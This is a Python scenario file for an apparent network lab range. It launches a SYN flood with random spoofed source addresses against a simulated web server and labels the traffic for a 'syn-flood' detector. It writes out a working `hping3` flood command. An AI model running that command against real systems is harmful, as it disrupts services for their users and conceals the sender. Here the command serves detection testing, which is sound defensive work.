"""A SYN flood from random sources."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    web = net.web()
    net.everyday()
    with net.attack(
        "syn-flood",
        by=attacker,
        victims=[web],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and dst host {web.ip} and dst port 80",
        responses=f"tcp and src host {web.ip} and tcp[tcpflags] & (tcp-syn|tcp-ack) == (tcp-syn|tcp-ack)",
    ):
        net.tool(attacker, *f"hping3 -q -S --rand-source -p 80 -i u1500 -c 2500 {web.ip}".split())
    net.quiet(3)


SCENARIO = Scenario(
    name="syn-flood-spoofed",
    about="hping3 sends 660 SYNs a second from random sources to a web server that others use meanwhile.",
    detectors=("syn-flood",),
    tools={"hping3": "hping3"},
    run=run,
)
